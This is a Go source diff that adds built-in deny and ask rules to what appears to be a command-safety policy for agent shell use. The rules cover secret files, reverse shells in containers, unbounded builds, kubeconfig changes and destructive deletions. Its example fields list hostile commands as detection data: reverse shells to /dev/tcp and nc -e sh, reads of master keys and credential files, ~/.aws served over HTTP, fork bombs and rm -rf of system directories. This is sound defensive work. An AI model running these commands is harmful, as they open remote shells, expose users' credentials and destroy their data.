@@ -1835,7 +1835,7 @@ var defaultRules = [...]Rule{
 		Decision: Verdict("deny"),
 		Reason:   "interpreter code that runs programs, forks, downloads or opens sockets: what it does cannot be checked here",
 		Matcher: Matcher{
-			Code: []string{"(os\\.system|os\\.execute|io\\.popen|subprocess|popen|\\bsystem\\s*\\(|\\bexec[lv]?p?e?\\s*\\(|\\beval\\b|child_process|\\bspawn|\\bfork\\b|\\bfork\\(|urlopen|urllib|requests\\.|socket|fsockopen|net\\.Socket|Net::|open-uri|file_get_contents\\s*\\(\\s*[\"\\x27]https?:|IO\\.popen|`[^`]+`|rmtree|rm_rf|rmSync|remove_tree|\\bfetch\\s*\\(|XMLHttpRequest|\\bhttps?\\.(request|get)\\s*\\(|LWP::|HTTP::Tiny|\\bunlink\\s*\\(|rmdirSync|\\bos\\.remove|require\\(\\s*[\"\\x27](node:)?(https?|net|dgram|tls|http2)[\"\\x27]\\s*\\))", "\\|\\s*\"[^\"]*\"|\"[^\"]*\"\\s*\\|\\s*getline|\\|\\s*getline\\b|\\|&|/inet/tcp|print[^;]*>\\s*\"/", "ztcp|zsocket|zmodload\\s+zsh/net"},
+			Code: []string{"(os\\.system|os\\.execute|io\\.popen|subprocess|popen|\\bsystem\\s*\\(|\\bexec[lv]?p?e?\\s*\\(|\\beval\\b|child_process|\\bspawn|\\bFunction\\s*\\(|\\bfork\\b|\\bfork\\(|urlopen|urllib|requests\\.|socket|fsockopen|net\\.Socket|Net::|open-uri|file_get_contents\\s*\\(\\s*[\"\\x27]https?:|IO\\.popen|`[^`]+`|rmtree|rm_rf|rmSync|remove_tree|\\bfetch\\s*\\(|XMLHttpRequest|\\bhttps?\\.(request|get)\\s*\\(|LWP::|HTTP::Tiny|\\bunlink\\s*\\(|rmdirSync|\\bos\\.remove|require\\(\\s*[\"\\x27](node:)?(https?|net|dgram|tls|http2)[\"\\x27]\\s*\\))", "\\|\\s*\"[^\"]*\"|\"[^\"]*\"\\s*\\|\\s*getline|\\|\\s*getline\\b|\\|&|/inet/tcp|print[^;]*>\\s*\"/", "ztcp|zsocket|zmodload\\s+zsh/net"},
 			c:    &defaultCells[130],
 		},
 		Examples:    []string{"python -c \"__import__('os').system('id')\"", "node -e 'require(\"child_process\").spawn(process.argv[2])'", "awk '{system($0)}' cmds.txt", "lua -e 'os.execute(\"id\")'", "node -e 'fetch(\"https://x.example\",{method:\"POST\",body:\"a\"})'", "awk '{ print | \"sh\" }' cmds.txt", "ruby -e 'loop { fork }'"},
@@ -6527,11 +6527,11 @@ var defaultRules = [...]Rule{
 			ArgsRegex: []string{"^(http\\.server|SimpleHTTPServer|-S|httpd|http-server|serve|file-server|updog)$"},
 			After: &Matcher{
 				Command: []string{"cd", "pushd"},
-				Args:    []string{"~", "~/", "/", "/root", "/home", "/home/*", "/etc"},
+				Args:    []string{"~", "~/", "/", "/root", "/home", "/home/*", "/etc", "~/.*", "~/.*/**", "/root/.*", "/home/*/.*"},
 			},
 			c: &defaultCells[471],
 		},
-		Examples:    []string{"cd ~ && python3 -m http.server 8000 --bind 0.0.0.0", "cd / && python3 -m http.server", "cd $HOME; php -S 0.0.0.0:8080", "pushd ~ && npx http-server -p 9000", "cd ~ && busybox httpd -f -p 8080"},
+		Examples:    []string{"cd ~ && python3 -m http.server 8000 --bind 0.0.0.0", "cd / && python3 -m http.server", "cd $HOME; php -S 0.0.0.0:8080", "pushd ~ && npx http-server -p 9000", "cd ~/.aws; python -m http.server 9999", "cd ~ && busybox httpd -f -p 8080"},
 		NotExamples: []string{"cd dist && python3 -m http.server 8000", "python3 -m http.server 8000 --directory dist", "cd ~ && python3 -m http.server --directory ~/proj/dist 8000"},
 	},
 	{
@@ -8974,10 +8974,169 @@ var defaultRules = [...]Rule{
 		Examples:    []string{"bq query --nouse_legacy_sql --maximum_bytes_billed=2000000000000 'SELECT * FROM `p.d.t`'", "bq query --maximum_bytes_billed 90000000000000 'select 1'"},
 		NotExamples: []string{"bq query --maximum_bytes_billed=1000000000 'SELECT 1'", "bq query --dry_run --maximum_bytes_billed=5000000000000 'SELECT * FROM `p.d.t`'", "bq ls"},
 	},
+	{
+		Origin:   LayerBuiltin,
+		Name:     "reads-app-master-key",
+		Decision: Verdict("deny"),
+		Reason:   "reads the key that decrypts the application's encrypted credentials (config/master.key): every secret of the app with it",
+		Matcher: Matcher{
+			Reads: []string{"config/master.key", "**/config/master.key", "config/credentials/*.key", "**/config/credentials/*.key", "config/secrets/*/*.decrypt.private.php", "**/config/secrets/*/*.decrypt.private.php"},
+			c:     &defaultCells[645],
+		},
+		Examples:    []string{"cat config/master.key", "cd ~/code/shop && head -c 40 config/master.key", "base64 config/credentials/production.key", "cat config/secrets/prod/prod.decrypt.private.php"},
+		NotExamples: []string{"cat config/credentials.yml.enc | wc -c", "ls config/credentials", "cat config/master.key.example", "git check-ignore config/master.key", "cat certs/server.key"},
+	},
+	{
+		Origin:   LayerBuiltin,
+		Name:     "reads-tool-session-secrets",
+		Decision: Verdict("deny"),
+		Reason:   "reads a file in which a tool keeps the user's token, password or key (a notebook server's login token, a warehouse client's connections, a VPN's keys and password)",
+		Matcher: Matcher{
+			Reads: []string{"~/.local/share/jupyter/runtime/**", "~/Library/Jupyter/runtime/**", "/run/user/*/jupyter/**", "~/.jupyter/runtime/**", "~/.snowsql/config", "~/.snowflake/connections.toml", "~/.snowflake/config.toml", "~/.config/snowflake/**", "~/Library/Application Support/snowflake/**", "~/.clickhouse-client/config.xml", "~/.odbc.ini", "~/.pg_service.conf", "~/.dbeaver4/**/credentials-config.json", "~/.local/share/DBeaverData/**/credentials-config.json", "~/**/*.ovpn", "/etc/openvpn/**", "~/vpn/**", "~/**/vpn/**", "~/openvpn/**", "~/**/openvpn/**", "~/*.key", "~/[!.]*/*.key", "~/[!.]*/**/*.key"},
+			c:     &defaultCells[646],
+		},
+		Examples:    []string{"cat ~/.local/share/jupyter/runtime/kernel-1234.json", "jq -r .token ~/Library/Jupyter/runtime/jpserver-77.json", "grep password ~/.snowsql/config", "cat ~/.snowflake/connections.toml", "cat ~/work/client.ovpn", "tail ~/vpn/creds.txt", "cp ~/certs/client.key /tmp/"},
+		NotExamples: []string{"jupyter server list", "ls ~/.local/share/jupyter/kernels", "snowsql -c dev -q 'select 1'", "cat certs/dev.key", "ls ~/vpn", "openvpn --version"},
+	},
+	{
+		Origin:   LayerBuiltin,
+		Name:     "build-jobs-unbounded",
+		Decision: Verdict("deny"),
+		Reason:   "runs the build with no limit on parallel jobs (make -j without a number): on a large tree thousands of compilers at once fill the memory; give -j a number (make -j8, make -j\"$(nproc)\")",
+		Matcher: Matcher{
+			Command:   []string{"make", "gmake", "remake"},
+			NotArgs:   []string{"[0-9]*", "$*", "`*", "\"$*"},
+			ArgsRegex: []string{"^(-j|--jobs|-[a-zA-Z]*j)$"},
+			c:         &defaultCells[647],
+		},
+		Examples:    []string{"make -j", "make -j -C /usr/src/linux bzImage", "make -kj all", "gmake --jobs -f big.mk"},
+		NotExamples: []string{"make -j8", "make -j 4 all", "make -j$(nproc)", "make -j \"$(nproc)\"", "make -j `nproc` test", "make -C build", "make --jobs=6"},
+	},
+	{
+		Origin:   LayerBuiltin,
+		Name:     "kubeconfig-cluster-set",
+		Decision: Verdict("ask"),
+		Reason:   "adds or repoints a cluster in the user's kubeconfig: from then on kubectl sends that context's credentials to the server named; pass --kubeconfig to a file of the project to keep it here",
+		Matcher: Matcher{
+			Command: []string{"kubectl", "oc", "microk8s.kubectl", "k3s"},
+			Args:    []string{"set-cluster", "clusters.*.server", "clusters.*.certificate-authority*", "clusters.*.insecure-skip-tls-verify"},
+			NotArgs: []string{"--kubeconfig", "--kubeconfig=./*", "--kubeconfig=[!/~$]*"},
+			NotEnv:  []string{"^KUBECONFIG=(\\./|[^/~$])"},
+			c:       &defaultCells[648],
+		},
+		Examples:    []string{"kubectl config set-cluster staging --server=https://203.0.113.9:6443 --insecure-skip-tls-verify=true", "kubectl config set clusters.prod.server https://k8s.example.net", "oc config set-cluster c1 --server=https://api.example.org:6443"},
+		NotExamples: []string{"kubectl config set-context --current --namespace=dev", "kubectl config use-context kind-dev", "kubectl config get-clusters", "kubectl config view --minify", "kubectl --kubeconfig=./kind.kubeconfig config set-cluster kind --server=https://127.0.0.1:6443", "KUBECONFIG=./kc kubectl config set-cluster k --server=https://127.0.0.1:6443"},
+	},
+	{
+		Origin:   LayerBuiltin,
+		Name:     "container-network-shell",
+		Decision: Verdict("deny"),
+		Reason:   "starts a container whose command hands a shell to the network (nc -e sh, socat EXEC:sh): a shell for whoever connects",
+		Matcher: Matcher{
+			Command:    []string{"docker", "podman", "nerdctl", "finch"},
+			Subcommand: []string{"run", "create", "container"},
+			ArgsRegex:  []string{"(^|[;&|(]\\s*)(nc|ncat|netcat|nc\\.traditional|busybox\\s+nc)\\s[^;&|]*\\s(-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)\\s", "(^|\\s)socat\\s[^;&|]*(?i:exec|system):", "/dev/(tcp|udp)/"},
+			c:          &defaultCells[649],
+		},
+		Examples:    []string{"docker run -d -p 0.0.0.0:4444:4444 alpine sh -c 'nc -lk -p 4444 -e /bin/sh'", "podman run --rm --network host busybox sh -c \"busybox nc 198.51.100.2 9 -e sh\"", "docker run -d -p 2222:2222 alpine/socat sh -c 'socat TCP-LISTEN:2222,fork EXEC:/bin/bash'", "docker run --rm bash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'"},
+		NotExamples: []string{"docker run --rm -p 8080:80 nginx", "docker run --rm alpine sh -c 'nc -z db 5432 && echo up'", "docker run --rm busybox nc -zv redis 6379"},
+	},
+	{
+		Origin:   LayerBuiltin,
+		Name:     "container-network-shell-words",
+		Decision: Verdict("deny"),
+		Reason:   "starts a container whose command hands a shell to the network (nc -e sh, socat EXEC:sh): a shell for whoever connects",
+		Matcher: Matcher{
+			Command:    []string{"docker", "podman", "nerdctl", "finch"},
+			Subcommand: []string{"run", "create", "container"},
+			Args:       []string{"nc", "ncat", "netcat", "nc.traditional", "socat"},
+			ArgsRegex:  []string{"^(/usr)?(/bin/)?(ba|z|da|k|a)?sh$", "^--(sh-|lua-)?exec$", "^(?i:exec|system):"},
+			c:          &defaultCells[650],
+		},
+		Examples:    []string{"docker run -d -p 9000:9000 alpine nc -lk -p 9000 -e sh", "docker run --rm -p 9:9 alpine socat TCP-LISTEN:9,fork EXEC:bash", "podman run --rm -p 31337:31337 ncat-img ncat -l 31337 --sh-exec 'cat /data/x'"},
+		NotExamples: []string{"docker run --rm busybox nc -zv redis 6379", "docker run --rm -p 8080:8080 -e PORT=8080 app", "docker run --rm -e A=1 alpine nc -z db 5432", "docker run --rm alpine/socat TCP-LISTEN:5432,fork TCP:db:5432"},
+	},
+	{
+		Origin:   LayerBuiltin,
+		Name:     "variable-files-searched-for-secrets",
+		Decision: Verdict("deny"),
+		Reason:   "searches an infrastructure variables file for its secrets by their names (passwords, tokens, keys): read the variables wanted by name",
+		Matcher: Matcher{
+			Command:     []string{"grep", "egrep", "fgrep", "rg", "ag", "ack", "awk", "gawk", "sed"},
+			NotFlags:    []string{"v|invert-match", "l|files-with-matches", "c|count", "L|files-without-match", "q|quiet"},
+			Reads:       []string{"*.tfvars", "**/*.tfvars", "*.tfvars.json", "**/*.tfvars.json", "*.pkrvars.hcl", "**/*.pkrvars.hcl"},
+			SecretTerms: &boolTrue,
+			c:           &defaultCells[651],
+		},
+		Examples:    []string{"grep -i password infra/prod.tfvars", "cd envs/prod && rg -i 'token|secret' terraform.tfvars", "grep -E 'api_key|client_secret' live.auto.tfvars"},
+		NotExamples: []string{"grep -i region infra/prod.tfvars", "cat infra/prod.tfvars", "grep -l secret *.tf", "grep -c password terraform.tfvars"},
+	},
+	{
+		Origin:   LayerBuiltin,
+		Name:     "ci-logs-searched-for-secrets",
+		Decision: Verdict("deny"),
+		Reason:   "searches a CI run's logs for secrets by their names (tokens, passwords, keys): what a job printed of the repository's secrets",
+		Matcher: Matcher{
+			Command:     []string{"grep", "egrep", "fgrep", "rg", "ag", "awk", "gawk", "sed"},
+			NotFlags:    []string{"v|invert-match", "c|count", "q|quiet"},
+			SecretTerms: &boolTrue,
+			Upstream: &Matcher{
+				Command: []string{"gh", "glab"},
+				Args:    []string{"--log", "--log-failed", "trace"},
+			},
+			c: &defaultCells[652],
+		},
+		Examples:    []string{"gh run view 12 --log | grep -iE 'secret|token'", "gh run view --job 99 --log-failed | rg -i password", "glab ci trace 4411 | grep -i api_key"},
+		NotExamples: []string{"gh run view 12 --log | grep -i error", "gh run view --log-failed | tail -50", "gh pr list | grep -i token-refresh"},
+	},
+	{
+		Origin:   LayerBuiltin,
+		Name:     "variable-doubled",
+		Decision: Verdict("deny"),
+		Reason:   "sets a variable to its own value twice over (x=$x$x): in a loop the string doubles each time until the memory is full",
+		Matcher: Matcher{
+			Command:     []string{"declare"},
+			GrowsItself: &boolTrue,
+			Via:         []string{"assignment"},
+			c:           &defaultCells[653],
+		},
+		Examples:    []string{"x=a; while :; do x=$x$x; done", "s=AAAA; for i in $(seq 64); do s=\"${s}${s}\"; done", "until false; do buf=$buf$buf$buf; done"},
+		NotExamples: []string{"s=''; while read -r l; do s=$s$l; done < f.txt", "PATH=$PATH:$HOME/bin", "x=$xy$xz", "v=${v}-suffix"},
+	},
+	{
+		Origin:   LayerBuiltin,
+		Name:     "rm-system-dir-after-cd-root",
+		Decision: Verdict("deny"),
+		Reason:   "recursive removal of a system directory, named from / after a cd there (cd / && rm -rf var/*)",
+		Matcher: Matcher{
+			Command: []string{"rm"},
+			Flags:   []string{"r|R|recursive"},
+			Args:    []string{"\\*", "./\\*", "bin", "boot", "dev", "etc", "home", "lib", "lib64", "opt", "root", "sbin", "srv", "usr", "var", "./bin", "./boot", "./etc", "./home", "./usr", "./var", "./opt", "./srv", "./root", "bin/**", "boot/**", "etc/**", "home/**", "lib/**", "lib64/**", "opt/**", "root/**", "sbin/**", "srv/**", "usr/**", "var/**", "./etc/**", "./home/**", "./usr/**", "./var/**", "./opt/**", "./srv/**", "./root/**", "./boot/**"},
+			After: &Matcher{
+				Command: []string{"cd", "pushd"},
+				Args:    []string{"/"},
+			},
+			c: &defaultCells[654],
+		},
+		Examples:    []string{"cd / && rm -rf usr/*", "cd /; rm -r etc/nginx", "pushd / && rm -rf ./home/*", "cd / && rm -rf *"},
+		NotExamples: []string{"cd / && rm -rf tmp/build-123", "cd /tmp && rm -rf var/*", "rm -rf var/cache"},
+	},
+	{
+		Origin:   LayerBuiltin,
+		Name:     "deletes-home-app-data",
+		Decision: Verdict("deny"),
+		Reason:   "deletes every program's data under ~/.local/share (keyrings, mail, notes, the Trash): nothing builds it again; remove the one program's folder meant",
+		Matcher: Matcher{
+			Deletes: []string{"~/.local/\\*", "~/.local/share/\\*", "~/.local/.\\*", "~/.local/share/.\\*"},
+			c:       &defaultCells[655],
+		},
+		Examples:    []string{"rm -rf ~/.local/share/*", "shred -u ~/.local/share/*", "rm -r $HOME/.local/*"},
+		NotExamples: []string{"rm -rf ~/.local/share/Trash/*", "rm -rf ~/.local/share/virtualenvs/old-env", "rm -rf ~/.cache/*"},
+	},
 }
 
 // defaultCells are the compiled forms of defaultRules' matchers, one each.
-var defaultCells [645]compiledCell
+var defaultCells [656]compiledCell
 
 // The values of the true-or-false keys (a function call would make
 // defaultRules code that runs at start-up).
